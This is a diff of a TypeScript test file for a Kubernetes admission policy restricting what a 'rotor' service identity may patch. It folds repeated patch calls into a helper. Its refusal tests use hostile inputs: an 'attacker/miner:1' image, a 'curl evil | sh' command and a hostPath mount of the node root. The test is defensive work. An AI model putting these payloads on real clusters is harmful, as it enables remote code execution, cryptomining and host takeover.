@@ -63,6 +63,16 @@ const merge = (obj: Obj, patch: { metadata?: object; spec?: object }) =>
     undefined,
     PatchStrategy.MergePatch,
   );
+/** A strategic-merge patch of `obj` as rotor (containers merge by name, as rotor's restart writes them). */
+const strategic = (obj: Obj, spec: object) =>
+  rotor.patch(
+    { ...obj, spec } as Obj,
+    undefined,
+    undefined,
+    'rotor',
+    undefined,
+    PatchStrategy.StrategicMergePatch,
+  );
 
 const deployment: Obj = {
   apiVersion: 'apps/v1',
@@ -157,17 +167,9 @@ afterAll(async () => {
 describe('ValidatingAdmissionPolicy: rotor identity changes only what rotor writes', () => {
   it('refuses an image change to rotor', async () => {
     const answer = await refusal(
-      rotor.patch(
-        {
-          ...deployment,
-          spec: { template: { spec: { containers: [{ name: 'app', image: 'attacker/miner:1' }] } } },
-        } as Obj,
-        undefined,
-        undefined,
-        'rotor',
-        undefined,
-        PatchStrategy.StrategicMergePatch,
-      ),
+      strategic(deployment, {
+        template: { spec: { containers: [{ name: 'app', image: 'attacker/miner:1' }] } },
+      }),
     );
 
     expect(answer).toMatch(/refused.*images/);
@@ -175,47 +177,17 @@ describe('ValidatingAdmissionPolicy: rotor identity changes only what rotor writ
 
   it('refuses a change of a non-STAKATER env var, a command and a volume to rotor', async () => {
     const env = await refusal(
-      rotor.patch(
-        {
-          ...deployment,
-          spec: {
-            template: { spec: { containers: [{ name: 'app', env: [{ name: 'MODE', value: 'debug' }] }] } },
-          },
-        } as Obj,
-        undefined,
-        undefined,
-        'rotor',
-        undefined,
-        PatchStrategy.StrategicMergePatch,
-      ),
+      strategic(deployment, {
+        template: { spec: { containers: [{ name: 'app', env: [{ name: 'MODE', value: 'debug' }] }] } },
+      }),
     );
     const command = await refusal(
-      rotor.patch(
-        {
-          ...deployment,
-          spec: {
-            template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } },
-          },
-        } as Obj,
-        undefined,
-        undefined,
-        'rotor',
-        undefined,
-        PatchStrategy.StrategicMergePatch,
-      ),
+      strategic(deployment, {
+        template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } },
+      }),
     );
     const volume = await refusal(
-      rotor.patch(
-        {
-          ...deployment,
-          spec: { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } },
-        } as Obj,
-        undefined,
-        undefined,
-        'rotor',
-        undefined,
-        PatchStrategy.StrategicMergePatch,
-      ),
+      strategic(deployment, { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } }),
     );
 
     expect([env, command, volume].map((a) => a.startsWith('refused'))).toEqual([true, true, true]);
@@ -236,21 +208,11 @@ describe('ValidatingAdmissionPolicy: rotor identity changes only what rotor writ
 
   it("allows rotor's own writes: STAKATER env var, pod-template annotation, spec.paused, a Job from a CronJob", async () => {
     const envVar = await refusal(
-      rotor.patch(
-        {
-          ...deployment,
-          spec: {
-            template: {
-              spec: { containers: [{ name: 'app', env: [{ name: 'STAKATER_DB_SECRET', value: 'abc' }] }] },
-            },
-          },
-        } as Obj,
-        undefined,
-        undefined,
-        'rotor',
-        undefined,
-        PatchStrategy.StrategicMergePatch,
-      ),
+      strategic(deployment, {
+        template: {
+          spec: { containers: [{ name: 'app', env: [{ name: 'STAKATER_DB_SECRET', value: 'abc' }] }] },
+        },
+      }),
     );
     const annotation = await refusal(
       merge(deployment, {
